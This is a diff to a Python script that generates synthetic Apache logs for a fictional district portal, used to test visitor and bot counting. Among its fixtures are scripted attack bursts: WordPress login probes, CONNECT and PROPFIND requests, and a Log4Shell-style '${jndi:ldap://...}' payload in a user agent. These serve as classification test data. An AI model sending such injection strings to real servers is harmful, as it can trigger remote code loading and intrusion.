@@ -1,10 +1,10 @@
-"""Writes the sample logs: a month of a made-up district portal, and one showcase per format.
+"""Write the sample logs: a month of a fictional district portal, and one showcase log per format.
 
     python sample_logs/generate.py [--out DIR]
 
-The visits are planned first and the lines are written from the plan. Then `figures` reads the
-lines again, knowing nothing of the plan, and works the figures out by the plain definition; when
-they are not the ones promised, nothing is written. The same seed gives the same bytes.
+The visits are planned first, and the lines are generated from the plan. Then `figures` computes the
+figures from the lines alone, by their definition. If they differ from the expected ones, no file is
+written. The same seed gives the same bytes.
 """
 
 from __future__ import annotations
@@ -32,17 +32,17 @@ from urllib.parse import unquote
 
 Item = TypeVar("Item")
 
-# --- What is promised -----------------------------------------------------------------------
+# --- Expected figures -----------------------------------------------------------------------
 
 SEED = 20261121
 SITE = "batxat.laocai.gov.vn"
 ORIGIN = f"https://{SITE}"
 
-BASELINE = 1_594_322  # what the old counter said on the evening before the first day
+BASELINE = 1_594_322  # the count of the old counter on the evening before the first day
 ONLINE, TODAY, WEEK, ALL_TIME = 23, 274, 3_716, 1_605_233
-MAX_BYTES = 2_600_000  # of portal/, since it is kept in the repository
+MAX_BYTES = 2_600_000  # of portal/, which is part of the repository
 
-# Visits that begin on each day of November 2026; the 21st counts up to the moment of the figures.
+# Visits that begin on each day of November 2026; the 21st is counted up to the time of the figures.
 VISITS_PER_DAY = (
     331,  # 1 November is a Sunday
     *(497, 516, 488, 509, 471, 352, 339),
@@ -50,7 +50,7 @@ VISITS_PER_DAY = (
     *(708, 695, 683, 701, 655),
     TODAY,
 )
-VISITS_AFTER = 6  # begin after the moment of the figures, which must ignore them
+VISITS_AFTER = 6  # begin after the time of the figures, which must not include them
 
 # --- Time: whole seconds since 1 November 2026, 00:00 at the portal (+0700) -------------------
 
@@ -61,15 +61,15 @@ ONLINE_WINDOW = 600
 
 
 def moment(day: int, clock: str) -> int:
-    """Tell the second at which the clock shows `clock` on that day of November."""
+    """Return the second at which the local clock shows `clock` on a day of November."""
     hours, minutes, seconds = clock.split(":")
     return (day - 1) * DAY + int(hours) * HOUR + int(minutes) * 60 + int(seconds)
 
 
 T = moment(21, "10:00:00")
-END = moment(21, "10:07:10")  # when the sample was taken from the server
+END = moment(21, "10:07:10")  # the time at which the sample was copied from the server
 
-# cron.daily starts at 06:25, and logrotate gets its turn a few seconds later. A new log is not
+# cron.daily starts at 06:25 and runs logrotate a few seconds later. A new log is not
 # rotated on its first day.
 BY_HAND = moment(20, "21:40:12")  # the disk was nearly full, so an admin ran logrotate -f
 DAILY = (moment(day, f"06:25:{2 + day * 7 % 5:02d}") for day in range(2, 22))
@@ -84,7 +84,7 @@ WEEKEND = (
     6, 3, 2, 1, 3, 10, 28, 46, 62, 66, 62, 54,
     48, 42, 46, 50, 52, 48, 50, 66, 70, 58, 36, 14,
 )  # fmt: skip
-# Saturday the 21st: it froze at night, and at dawn everyone sends on that schools stay shut.
+# Saturday the 21st: it froze at night, and at dawn everyone shares the news that schools stay closed.
 FROST = (
     6, 3, 2, 2, 7, 26, 60, 78, 72, 64, 62, 54,
     48, 42, 46, 50, 52, 48, 50, 66, 70, 58, 36, 14,
@@ -92,11 +92,11 @@ FROST = (
 
 VIEWS_IN_A_VISIT = ((50, 1), (22, 2), (11, 3), (7, 4), (4, 5), (3, 6), (2, 7), (1, 8))
 
-# --- Who: people ------------------------------------------------------------------------------
+# --- People -----------------------------------------------------------------------------------
 
 
 class Agent(NamedTuple):
-    """A browser: how common it is, how its people arrive (a key of WAYS), what it sends."""
+    """A browser: its weight, how its users arrive (a key of WAYS), its agent and its protocol."""
 
     weight: float
     way: str
@@ -104,7 +104,7 @@ class Agent(NamedTuple):
     protocol: str = "HTTP/2.0"
 
 
-OLD = "HTTP/1.1"  # browsers and proxies that never learned HTTP/2
+OLD = "HTTP/1.1"  # of browsers and proxies without HTTP/2
 KHTML = "AppleWebKit/537.36 (KHTML, like Gecko)"
 CHROME = "Chrome/147.0.0.0 Mobile Safari/537.36"
 WEBVIEW = "Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36"
@@ -112,28 +112,28 @@ ZALO = f"{WEBVIEW} Zalo android/25110640 ZaloTheme/light ZaloLanguage/vi"
 
 
 def android(device: str, tail: str = CHROME) -> str:
-    """Build the agent of a browser on an Android phone."""
+    """Return the agent of a browser on an Android phone."""
     return f"Mozilla/5.0 (Linux; Android {device}) {KHTML} {tail}"
 
 
 def iphone(system: str, tail: str) -> str:
-    """Build the agent of a browser on an iPhone; they all are WebKit."""
+    """Return the agent of a browser on an iPhone; all of them use WebKit."""
     webkit = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
     return f"Mozilla/5.0 (iPhone; CPU iPhone OS {system} like Mac OS X) {webkit} {tail}"
 
 
 def windows(version: str, tail: str) -> str:
-    """Build the agent of a Chromium on Windows."""
+    """Return the agent of a Chromium browser on Windows."""
     return f"Mozilla/5.0 (Windows NT {version}) {KHTML} {tail}"
 
 
-# Every one of them is a person. The ones with a remark are what bot lists get wrong.
+# All of these are people's browsers. Bot lists misclassify those with a comment.
 AGENTS = {
-    # Chrome hides the phone's name since 2023: the most common agent of all says "K".
+    # Since 2023 Chrome sends "K" in place of the phone's model: the most common agent.
     "android": Agent(17, "web", android("10; K")),
     "android-2": Agent(5, "web", android("10; K", "Chrome/146.0.0.0 Mobile Safari/537.36")),
     "oppo": Agent(5, "web", android("14; CPH2591 Build/UKQ1.230924.001")),
-    # A list takes this build, which many OPPO, realme and OnePlus phones have, for a crawler.
+    # One list classifies this build, which many OPPO, realme and OnePlus phones have, as a crawler.
     "oppo-zalo": Agent(8, "zalo", android("15; CPH2557 Build/AP3A.240617.008; wv", ZALO)),
     "realme": Agent(4, "web", android("13; RMX3690 Build/SP1A.210812.016")),
     "realme-zalo": Agent(5, "zalo", android("15; RMX3834 Build/UP1A.231005.007; wv", ZALO)),
@@ -223,7 +223,7 @@ AGENTS = {
         f"{KHTML} Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.4.2.1307 Mobile Safari/537.36",
         OLD,
     ),
-    # The one living browser whose agent does not begin with Mozilla/.
+    # The only browser still in use whose agent does not begin with Mozilla/.
     "opera-mini": Agent(
         1,
         "web",
@@ -231,33 +231,33 @@ AGENTS = {
         OLD,
     ),
     "opera": Agent(0.8, "web", android("12; M2006C3LG", f"{CHROME} OPR/92.0.0.0")),
-    # A make of phone that ends in "bot".
+    # A brand of phones whose name ends in "bot".
     "cubot": Agent(0.6, "web", android("11; CUBOT_NOTE_30")),
     "cubot-2": Agent(0.4, "zalo", android("12; CUBOT P60 Build/SP1A.210812.016; wv", ZALO)),
-    # Lists know a crawler called Butterfly, and Viber's link preview.
+    # Lists have a crawler called Butterfly, and Viber's link preview.
     "htc": Agent(0.3, "web", android("5.0.2; HTC Butterfly 3 Build/LRX22G")),
     "viber": Agent(
         0.5, "web", android("13; SM-A135F Build/TP1A.220624.014; wv", f"{WEBVIEW} Viber/25.9.2.0")
     ),
-    # A maker who put quotes into the agent; Apache writes them as \".
+    # A vendor that put quotes into the agent; Apache writes them as \".
     "tv": Agent(0.3, "web", android('9; \\"Smart\\" TV X96', "Chrome/91.0.4472.114 Safari/537.36")),
 }
 
-# Addresses. None of them is anyone's: documentation, carrier and benchmark ranges only.
+# Kinds of client IPs, all from ranges that nobody owns: documentation, carriers and benchmarks.
 ADDRESSES = (
-    (44, "carrier"),  # 100.64.0.0/10: a mobile carrier's; strangers share one address
-    (24, "home"),  # 198.18.0.0/15: a line into a house, with a family behind it
-    (30, "mobile"),  # 2001:db8::/32: a phone's own IPv6
-    (2, "school"),  # 198.51.100.0/24: a school, a clinic: many behind one address
+    (44, "carrier"),  # 100.64.0.0/10: a mobile carrier's NAT; strangers share one IP
+    (24, "home"),  # 198.18.0.0/15: the connection of a household, shared by a family
+    (30, "mobile"),  # 2001:db8::/32: the IPv6 of one phone
+    (2, "school"),  # 198.51.100.0/24: a school or a clinic; many share one IP
 )
 BEHIND_ONE = {"carrier": (1, 3), "home": (1, 4), "mobile": (1, 1), "school": (8, 20)}
 PEOPLE = 5_200
-REGULAR = 1.15  # the tail of how often people come back: smaller is heavier
+REGULAR = 1.15  # exponent of the distribution of visits per person; smaller gives a heavier tail
 MOST_OFTEN = 45.0
 
-# --- What they read ---------------------------------------------------------------------------
+# --- Articles and pages -----------------------------------------------------------------------
 
-# Section: (day of November it was published, before that counted backwards; slug with its id).
+# Section: (day of publication in November, 0 and below for the days before; slug with its id).
 ARTICLES: dict[str, tuple[tuple[int, str], ...]] = {
     "tin-tuc-su-kien": (
         (-262, "le-hoi-xuong-dong-xa-y-ty-nam-2026-104732"),
@@ -397,12 +397,12 @@ ARTICLES: dict[str, tuple[tuple[int, str], ...]] = {
     ),
 }
 
-# Shared again and again: the share of all reading they have on any day.
+# Articles that are shared again and again: their share of all article views on any day.
 ALWAYS_READ = {
     "le-hoi-xuong-dong-xa-y-ty-nam-2026-104732": 0.055,
     "cam-nang-san-may-y-ty-104807": 0.035,
 }
-# Read by everyone for a day or two: the share they have then.
+# Articles that everyone reads for a day or two: their share of all article views on that day.
 RUSH = {
     (2, "ke-hoach-phong-chong-doi-ret-cho-gia-suc-105872"): 0.08,
     (5, "bang-gia-som-tren-dinh-nhiu-co-san-105882"): 0.22,
@@ -416,7 +416,7 @@ RUSH = {
     (21, "canh-bao-bang-gia-tren-deo-y-ty-105949"): 0.10,
 }
 
-# Pages beside the articles. Several rows are one page under another address.
+# Pages that are not articles. Several rows are the same page under different URLs.
 PAGES = (
     (10, "/gioi-thieu"),
     (8, "/dich-vu-cong"),
@@ -426,10 +426,10 @@ PAGES = (
     (3, "/hoi-dap/"),
     (2, "/so-do-cong"),
     (2, "/hoi-dap?trang=2"),
-    # sid and pageid say which page this is, although sid looks like a session
+    # sid and pageid identify the page, although sid looks like a session
     (3, "/Default.aspx?sid=1289&pageid=27344"),
     (2, "/Default.aspx?sid=1289&pageid=27401"),
-    # one page: capital hex, lower-case hex, and letters with loose marks (NFD) as iPhones send
+    # one page: upper-case hex, lower-case hex, and decomposed letters (NFD), which iPhones send
     (3, "/du-l%E1%BB%8Bch/y-t%C3%BD"),
     (2, "/du-l%e1%bb%8bch/y-t%c3%bd"),
     (1, "/du-li%CC%A3ch/y-ty%CC%81"),
@@ -445,14 +445,14 @@ SEARCHES = (
     (3, "/tim-kiem?q=ngh%E1%BB%89%20h%E1%BB%8Dc"),
     (2, "/tim-kiem?q=th%e1%bb%a7+t%e1%bb%a5c&page=2"),
     (2, "/tim-kiem?q=tuy%E1%BB%83n+d%E1%BB%A5ng"),
-    # Internet Explorer sends the letters as they are, and Apache escapes them
+    # Internet Explorer sends the letters without encoding, and Apache escapes them
     (1, "/tim-kiem?q=b\\xc3\\xa1t+x\\xc3\\xa1t"),
     (1, '/tim-kiem?q=\\"y+ty\\"'),
     (1, "/tim-kiem?q="),
 )
 
 QUOTED = 'https://duckduckgo.com/?q=\\"b%C3%A1t x%C3%A1t\\"'
-# Way in: (share, referrer, where to, tracking). "search" is a search on the portal itself.
+# Way of arrival: (share, referrer, kind of page, tracking). "search" is a search on the portal itself.
 WAYS: dict[str, tuple[tuple[float, tuple[str, str, str]], ...]] = {
     "web": (
         (30, ("-", "home", "")),
@@ -496,7 +496,7 @@ WAYS: dict[str, tuple[tuple[float, tuple[str, str, str]], ...]] = {
     ),
 }
 
-# {share} is the same for all who follow one shared link, {click} is new at every click.
+# {share} is the same for everyone who follows one shared link, {click} is new at every click.
 TRACKING = {
     "zalo": "zarsrc=30&utm_source=zalo&utm_medium=zalo&utm_campaign=zalo&gidzl={share}",
     "zalo-home": "gidzl={share}",
@@ -508,7 +508,7 @@ TRACKING = {
 }
 SHARED_LINKS = 90
 
-# Where to next: from the kind of page to the kind of page. "again" is a reload.
+# The next page: from a kind of page to a kind of page. "again" is a reload.
 NEXT = {
     "home": ((66, "article"), (20, "section"), (6, "page"), (4, "search"), (4, "again")),
     "article": ((56, "article"), (20, "home"), (14, "section"), (3, "page"), (7, "again")),
@@ -520,7 +520,7 @@ HOMES = ((94, "/"), (4, "/index.html"), (1, "/?page=1"), (1, "/index.htm"))
 FRONTS = ((74, ""), (9, "/"), (11, "?page=2"), (4, "?page=3"), (2, "/index.html"))
 ENDINGS = ((95, ""), (3, "/"), (1, "#binh-luan"), (1, ";jsessionid=1F4B8D0C6E2A93577C10"))
 
-# --- What comes with the pages ----------------------------------------------------------------
+# --- Assets and other requests ----------------------------------------------------------------
 
 THEME = (
     (10, "/css/portal.css?v=31"),
@@ -542,7 +542,7 @@ SMALL = {"/robots.txt": 187, "/favicon.ico": 1_150, "/images/logo.png": 8_412, "
 
 
 class Asked(NamedTuple):
-    """What was asked for, and what came of it."""
+    """A request and its response: method, path, status, size in bytes."""
 
     method: str
     path: str
@@ -550,7 +550,7 @@ class Asked(NamedTuple):
     size: int
 
 
-# Lines of people that are no page views.
+# Requests by people that are not page views.
 BESIDE = (
     (30, Asked("GET", "/images/cu/banner-2019.jpg", 404, 1245)),
     (20, Asked("POST", "/luot-xem", 204, 0)),
@@ -566,11 +566,11 @@ BESIDE = (
     (1, Asked("GET", "/dich-vu-cong", 503, 299)),
 )
 
-# --- Visits that are there for a reason -------------------------------------------------------
+# --- Visits that cover special cases ----------------------------------------------------------
 
 
 class Special(NamedTuple):
-    """Page views at `clock` on `day` and after each of `gaps`; `between` is no page view."""
+    """Page views at `clock` on `day` and after each of `gaps` (seconds); `between` is not a page view."""
 
     why: str
     client: str
@@ -578,11 +578,11 @@ class Special(NamedTuple):
     day: int
     clock: str
     gaps: tuple[int, ...] = ()
-    between: str = ""  # a line in the middle of the last gap: a key of BETWEEN
+    between: str = ""  # a request in the middle of the last gap: a key of BETWEEN
     paths: tuple[str, ...] = ()
 
 
-# What does not carry a visit on.
+# Requests that do not continue a visit.
 BETWEEN = {
     "asset": Asked("GET", "/images/logo.png", 200, 8_412),
     "missing": Asked("GET", "/tin-tuc-su-kien/hop-bao-quy-3-99812", 404, 6_127),
@@ -634,7 +634,7 @@ SPECIALS = (
     Special("three times in a day", "198.51.100.228", "ie-9", 19, "07:05:00", (60,)),
     Special("three times in a day", "198.51.100.228", "ie-9", 19, "11:35:00"),
     Special("three times in a day", "198.51.100.228", "ie-9", 19, "21:10:00", (300,)),
-    # 203.0.113.16/28 is the office, this is the house next to it.
+    # The office is 203.0.113.16/28; this IP is just outside.
     Special("no office address", "203.0.113.15", "windows", 19, "09:00:00", (75,)),
     Special("no office address", "203.0.113.32", "windows", 19, "09:30:00", (75,)),
     Special("documents are pages", "198.51.100.229", "windows", 6, "15:00:00", (40, 55), "", DOCUMENTS),
@@ -647,11 +647,11 @@ SPECIALS = (
     Special("today, not online, back later", "198.51.100.236", "vivo", 21, "09:44:10", (1_210,)),
 )
 
-# --- Who: everything else ---------------------------------------------------------------------
+# --- Bots, monitors, editors and attacks ------------------------------------------------------
 
 
 class Bot(NamedTuple):
-    """A program: what it sends, from where, how many lines a day, what it asks for (HABITS)."""
+    """A bot: its agent, its client IPs, its lines per day, and its requests (a key of HABITS)."""
 
     agent: str
     clients: tuple[str, ...]
@@ -660,22 +660,22 @@ class Bot(NamedTuple):
 
 
 def block(prefix: str, first: int, count: int) -> tuple[str, ...]:
-    """List some addresses in a row."""
+    """Return `count` consecutive IPs."""
     return tuple(f"{prefix}{first + i}" for i in range(count))
 
 
 def claims(name: str) -> str:
-    """Build the agent of a crawler that says so, in the oldest manner."""
+    """Return the agent of a crawler that declares itself, in the oldest form."""
     return f"Mozilla/5.0 (compatible; {name})"
 
 
 def poses(name: str, tail: str = "") -> str:
-    """Build the agent of a crawler that looks like a browser at first."""
+    """Return the agent of a crawler that begins like a browser's."""
     return f"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {name}){tail}"
 
 
 def phone(device: str, name: str, browser: str = "Mobile Safari/537.36") -> str:
-    """Build the agent of a crawler that wants the page for phones."""
+    """Return the agent of a crawler that requests the page for phones."""
     return android(device, f"{browser} (compatible; {name})")
 
 
@@ -707,7 +707,7 @@ BOTS = (
         block("192.0.2.", 100, 3),
         30,
     ),
-    # These do not say what they are, but no browser sends such a thing.
+    # These do not declare themselves, but no browser sends such an agent.
     Bot(claims("Foo/1.0"), ("203.0.113.181",), 12),
     Bot("-", block("203.0.113.", 170, 9), 24, "probe"),
     Bot("Mozilla/5.0 zgrab/0.x", block("203.0.113.", 160, 4), 6, "probe"),
@@ -731,7 +731,7 @@ BOTS = (
     ),
 )
 
-# What they ask for: (share, path, status). {article}, {section}, {n} are filled in.
+# The requests of bots: (share, (path, status)). {article}, {section} and {n} are filled in.
 HABITS: dict[str, tuple[tuple[float, tuple[str, int]], ...]] = {
     "crawl": (
         (56, ("{article}", 200)),
@@ -758,7 +758,7 @@ HABITS: dict[str, tuple[tuple[float, tuple[str, int]], ...]] = {
 
 
 class Monitor(NamedTuple):
-    """Asks for one thing at a fixed pace."""
+    """A program that sends one request at a fixed interval: every `every` seconds, from `first` on."""
 
     agent: str
     client: str
@@ -772,7 +772,7 @@ SELF = f"Mozilla/5.0 (X11; Linux x86_64) {KHTML} Chrome/130.0.0.0 Safari/537.36"
 DUMMY = "Apache/2.4.65 (Debian) (internal dummy connection)"
 UPTIME_ROBOT = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
 MONITORS = (
-    # The server looking at itself, with a browser's agent: only its address gives it away.
+    # The server checks itself, with a browser's agent: only its IP shows that.
     Monitor(SELF, "127.0.0.1", "GET", "/", 300, 2),
     Monitor(SELF, "::1", "GET", "/dich-vu-cong", 7_200, 31),
     Monitor(DUMMY, "::1", "OPTIONS", "*", 10_800, 77),
@@ -783,7 +783,7 @@ MONITORS = (
 )
 
 OFFICE = "203.0.113.16/28"
-# The editors' desks: they read their own portal all day, and must not count.
+# The editors' computers: they read their own portal all day, and must not be counted.
 DESKS = (
     ("203.0.113.18", "windows"),
     ("203.0.113.18", "coccoc"),
@@ -797,7 +797,7 @@ OFFICE_LINES = 64  # on a working day
 
 
 class Burst(NamedTuple):
-    """An attack: `rounds` through ATTACKS, a request every few seconds."""
+    """An attack: all of ATTACKS, `rounds` times, with at most two seconds between two requests."""
 
     day: int
     clock: str
@@ -809,12 +809,12 @@ class Burst(NamedTuple):
 BURSTS = (
     Burst(5, "02:11:08", "203.0.113.210", "python-requests/2.31.0", 3),
     Burst(9, "23:58:30", "203.0.113.211", "Mozilla/5.0 (compatible; Foo/1.0)", 3),
-    # A browser's agent, so a person by every rule; but not one request got a page.
+    # A browser's agent, so every rule classifies it as a person; but it has no page view.
     Burst(14, "03:40:00", "203.0.113.212", AGENTS["windows"].text, 4),
     Burst(17, "06:24:20", "203.0.113.213", '\\"Mozilla/5.0 (Windows NT 10.0)\\"', 3),
     Burst(20, "04:02:41", "203.0.113.214", "Mozilla/5.0 ${jndi:ldap://192.0.2.250:1389/a}", 2),
 )
-# As Apache writes them: (request line, status, bytes, referrer).
+# Requests as Apache logs them: (request line, status, bytes, referrer).
 ATTACKS = (
     ("GET /wp-login.php HTTP/1.1", 404, 6_127, "-"),
     ("POST /wp-login.php HTTP/1.1", 404, 6_127, f"{ORIGIN}/wp-login.php"),
@@ -835,18 +835,18 @@ ATTACKS = (
     ("CONNECT example.com:443 HTTP/1.1", 405, 299, "-"),
     ("PROPFIND / HTTP/1.1", 405, 299, "-"),
 )
-BARE = {"\\x16\\x03\\x01", "-", ""}  # requests that never get as far as an agent
+BARE = {"\\x16\\x03\\x01", "-", ""}  # requests that end before an agent is sent
 
-# Lines that came to harm, and when: power cuts, a full disk, two writers in one file.
+# Damaged lines and their times: power cuts, a full disk, two writers in one file.
 DAMAGED = (
     (2, "03:14:07", b"198.18.44.2 - - [02/Nov/2026:03:1"),
     (5, "11:02:55", b'100.66.91.4 - - [05/Nov/2026:11:02:55 +0700] "GET /van-ban-chi-dao/cong-die'),
-    # NULs, where a file system found room but no data
+    # NULs, where a file system allocated space without data
     (8, "22:47:31", b"\0" * 46 + b"6.0.1; Nexus 5X Build/MMB29P) Apple"),
     (10, "04:31:00", b'192.0.2.31 - - [10/Nov/2026:04:31:00 +0700] "GET / HTTP/1.1" 200'),
-    # bytes that are no UTF-8, with what some readers take for the end of a line (VT, FF, FS, NEL)
+    # bytes that are not UTF-8, with bytes that some readers treat as a line's end (VT, FF, FS, NEL)
     (13, "15:20:42", b'\xff\xfe\x0b\x8f\x0c\xc3\x28"\x1c\x85\xed\xa0\x80 "GET\0\\ \xe2\x80\xa8" 2'),
-    # the closing quote is gone, and with it the field's end
+    # the closing quote is missing, so the field has no end
     (
         17,
         "09:05:13",
@@ -856,13 +856,13 @@ DAMAGED = (
     (21, "08:16:39", b'198.18.9.61 - - [21/Nov/2026:08:16:39 +0700] "GET /thong-bao HTTP/2.0" 2'),
 )
 
-# --- One showcase for every format ------------------------------------------------------------
+# --- One showcase log for each format ---------------------------------------------------------
 
 MUSEUM = "yty.example:80"  # the second portal of vhost_combined.log
 
 
 class Exhibit(NamedTuple):
-    """One line; the referrer and the agent are left out of common.log, the port of the others."""
+    """One line; common.log has no referrer or agent, and only vhost_combined.log has the host and port."""
 
     why: str
     time: str
@@ -877,7 +877,7 @@ class Exhibit(NamedTuple):
 
 
 def morning(minute: int) -> str:
-    """Write a minute of the last morning."""
+    """Return the time of a minute on the last morning, as the log writes it."""
     return f"21/Nov/2026:07:{minute:02d}:00 +0700"
 
 
@@ -913,17 +913,17 @@ TORN = '192.0.2.10 - - [21/Nov/2026:07:26:00 +0700] "GET /thong-b'  # the one re
 
 
 def common(row: Exhibit) -> str:
-    """Write a line as %h %l %u %t "%r" %>s %b."""
+    """Return a line in the format %h %l %u %t "%r" %>s %b."""
     return f'{row.client} - {row.user} [{row.time}] "{row.request}" {row.status} {row.size}'
 
 
 def combined(row: Exhibit) -> str:
-    """Write the same and "%{Referer}i" "%{User-Agent}i"."""
+    """Return a line in the common format with "%{Referer}i" "%{User-Agent}i" appended."""
     return f'{common(row)} "{row.referer}" "{row.agent}"'
 
 
 def vhost_combined(row: Exhibit) -> str:
-    """Write %v:%p before, and %O for %b: as Debian has it. %O is never "-"."""
+    """Return a line in Debian's format: the combined one after %v:%p, with %O for %b. %O is never "-"."""
     counted = row._replace(size="0") if row.size == "-" else row
     return f"{row.vhost} {combined(counted)}"
 
@@ -936,16 +936,16 @@ FORMATS: dict[str, Callable[[Exhibit], str]] = {
 
 
 def showcase(name: str) -> bytes:
-    """Write the whole of formats/`name`.log."""
+    """Return the content of formats/`name`.log."""
     torn = f"{SHOWCASE[0].vhost} {TORN}" if name == "vhost_combined" else TORN
     return "".join(f"{line}\n" for line in [*map(FORMATS[name], SHOWCASE), torn]).encode()
 
 
-# --- Drawing ----------------------------------------------------------------------------------
+# --- Random choices ---------------------------------------------------------------------------
 
 
 class Wheel(Generic[Item]):
-    """Draws items as often as their weight says."""
+    """Draws items at random, in proportion to their weights."""
 
     def __init__(self, rows: Iterable[tuple[float, Item]]) -> None:
         pairs = list(rows)
@@ -959,7 +959,7 @@ class Wheel(Generic[Item]):
 
 
 def hours(shares: Sequence[int]) -> Wheel[int]:
-    """Make a wheel of the hours of a day."""
+    """Return a wheel of the hours of a day."""
     return Wheel([(share, hour) for hour, share in enumerate(shares)])
 
 
@@ -977,15 +977,15 @@ LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
 
 
 def token(rng: random.Random, length: int) -> str:
-    """Draw letters as in a click's mark."""
+    """Return random characters, like those of a click's id."""
     return "".join(rng.choices(LETTERS, k=length))
 
 
-# --- The plan: who reads when -----------------------------------------------------------------
+# --- The plan of the visits -------------------------------------------------------------------
 
 
 class Visitor(NamedTuple):
-    """What the log tells one reader from another by: an address and an agent's name."""
+    """A visitor, as the log identifies one: the client IP, and the agent (a key of AGENTS)."""
 
     client: str
     agent: str
@@ -993,30 +993,30 @@ class Visitor(NamedTuple):
 
 @dataclass(frozen=True, slots=True)
 class Walk:
-    """A visitor's page views in a row; one visit, or more where a special's gap is too long."""
+    """Consecutive page views of a visitor: one visit, or several where a special case has longer gaps."""
 
     visitor: Visitor
     views: tuple[int, ...]
     special: Special | None = None
 
     def begins(self) -> list[int]:
-        """List the moments its visits begin."""
+        """Return the times at which its visits begin."""
         return [self.views[0], *(b for a, b in pairwise(self.views) if b - a > VISIT_GAP)]
 
     def online(self) -> bool:
-        """Say whether a page view falls into the window that ends at T."""
+        """Whether a page view is in the online window that ends at T."""
         return any(T - ONLINE_WINDOW <= view <= T for view in self.views)
 
 
 @dataclass
 class Plan:
-    """All walks, and when each visitor is taken."""
+    """All walks, and the spans that each visitor's walks take."""
 
     walks: list[Walk] = field(default_factory=list)
     taken: dict[Visitor, list[tuple[int, int]]] = field(default_factory=lambda: defaultdict(list))
 
     def add(self, walk: Walk) -> bool:
-        """Take the walk in, unless it would run into another visit of the same visitor."""
+        """Add a walk and return True, unless it would join another visit of the same visitor."""
         first, last = walk.views[0] - VISIT_GAP, walk.views[-1] + VISIT_GAP
         if any(begin <= last and first <= end for begin, end in self.taken[walk.visitor]):
             return False
@@ -1025,12 +1025,12 @@ class Plan:
         return True
 
     def begun(self, first: int, last: int) -> int:
-        """Count the visits that begin from `first` to `last`, both included."""
+        """Return the number of visits that begin from `first` to `last`, both included."""
         return sum(first <= begin <= last for walk in self.walks for begin in walk.begins())
 
 
 def address(rng: random.Random, kind: str) -> str:
-    """Draw a client address of that kind, as Apache writes it."""
+    """Draw a client IP of a kind, as Apache writes it."""
     if kind == "carrier":
         return f"100.{rng.choice((66, 81, 109))}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
     if kind == "home":
@@ -1042,7 +1042,7 @@ def address(rng: random.Random, kind: str) -> str:
 
 
 def people(rng: random.Random) -> Wheel[Visitor]:
-    """Draw everyone there is, as often as they come."""
+    """Draw all visitors; each has a weight for how often it visits."""
     kinds, names = Wheel(ADDRESSES), Wheel((agent.weight, name) for name, agent in AGENTS.items())
     found: dict[Visitor, float] = {}
     while len(found) < PEOPLE:
@@ -1055,21 +1055,21 @@ def people(rng: random.Random) -> Wheel[Visitor]:
 
 
 def pause(rng: random.Random) -> int:
-    """Draw the seconds from one page view to the next of a visit."""
+    """Draw the seconds between two page views of a visit."""
     if rng.random() < 0.025:
         return rng.randint(900, VISIT_GAP - 5)
     return min(max(3, round(rng.lognormvariate(4.0, 1.0))), 900)
 
 
 def stroll(rng: random.Random, visitor: Visitor, start: int) -> Walk:
-    """Draw an everyday visit that begins at `start`."""
+    """Draw an ordinary visit that begins at `start`."""
     pauses = (pause(rng) for _ in range(VIEWS_WHEEL.draw(rng) - 1))
     views = accumulate(pauses, initial=start)
     return Walk(visitor, tuple(view for view in views if view <= max(start, END)))
 
 
 def special_walk(special: Special) -> Walk:
-    """Build the walk a row of SPECIALS asks for."""
+    """Return the walk of a row of SPECIALS."""
     views = accumulate(special.gaps, initial=moment(special.day, special.clock))
     return Walk(Visitor(special.client, special.agent), tuple(views), special)
 
@@ -1077,7 +1077,7 @@ def special_walk(special: Special) -> Walk:
 def fill(
     plan: Plan, draw: Callable[[], Walk], wanted: int, fits: Callable[[Walk], bool] | None = None
 ) -> None:
-    """Add that many walks that fit."""
+    """Add `wanted` walks that fit."""
     while wanted > 0:
         walk = draw()
         if fits is None or fits(walk):
@@ -1085,7 +1085,7 @@ def fill(
 
 
 def make_plan(rng: random.Random) -> Plan:
-    """Plan all visits: first the special ones, then as many as each day still lacks."""
+    """Plan all visits: first the special cases, then as many as each day still lacks."""
     readers, plan = people(rng), Plan()
     for special in SPECIALS:
         if not plan.add(special_walk(special)):
@@ -1110,11 +1110,11 @@ def make_plan(rng: random.Random) -> Plan:
     return plan
 
 
-# --- What there is to read --------------------------------------------------------------------
+# --- The articles of each day -----------------------------------------------------------------
 
 
 class Article(NamedTuple):
-    """One article: where it is, since when, and how much it is read beside others of its age."""
+    """One article: its path, its publication, and its weight among articles of the same age."""
 
     path: str
     slug: str
@@ -1124,7 +1124,7 @@ class Article(NamedTuple):
 
 
 class Library:
-    """The articles, and where a reader goes next."""
+    """The articles, and how often each is read on each day."""
 
     def __init__(self, rng: random.Random) -> None:
         rows = [(section, *row) for section, rows in ARTICLES.items() for row in rows]
@@ -1139,11 +1139,11 @@ class Library:
 
     @staticmethod
     def _published(day: int, slug: str) -> int:
-        """Set the moment within office hours of its day."""
+        """Return the time of publication, within office hours of the day; -1 before November."""
         return moment(day, "07:30:00") + zlib.crc32(slug.encode()) % (9 * HOUR) if day > 0 else -1
 
     def _reading(self, day: int) -> list[tuple[float, Article]]:
-        """Share out the reading of a day: news for some days, the archive by searching."""
+        """Return each article with its share of a day's views: news for some days, old ones by search."""
         fixed = {a: RUSH.get((day, a.slug), ALWAYS_READ.get(a.slug, 0.0)) for a in self.articles}
         free = {
             a: a.weight * (7.0 * math.exp((a.day - day) / 2.0) + 0.8)
@@ -1154,18 +1154,18 @@ class Library:
         return [(fixed[a] or free.get(a, 0.0) * scale, a) for a in self.articles]
 
     def article(self, rng: random.Random, at: int) -> Article:
-        """Draw an article, by how much it is read at that moment."""
+        """Draw an article that is published at a time, by its share of the day."""
         while True:
             found = self._wheels[at // DAY].draw(rng)
             if found.published <= at:
                 return found
 
     def published(self, at: int) -> list[Article]:
-        """List what there is at that moment."""
+        """Return the articles that are published at a time."""
         return [article for article in self.articles if article.published <= at]
 
     def page(self, rng: random.Random, kind: str, at: int, tracking: str = "") -> str:
-        """Draw the address of a page of that kind, as a reader's browser asks for it."""
+        """Draw the target of a page of a kind, as a browser requests it."""
         if kind == "home":
             target = "/" if tracking else HOMES_WHEEL.draw(rng)
         elif kind == "article":
@@ -1185,7 +1185,7 @@ class Library:
 
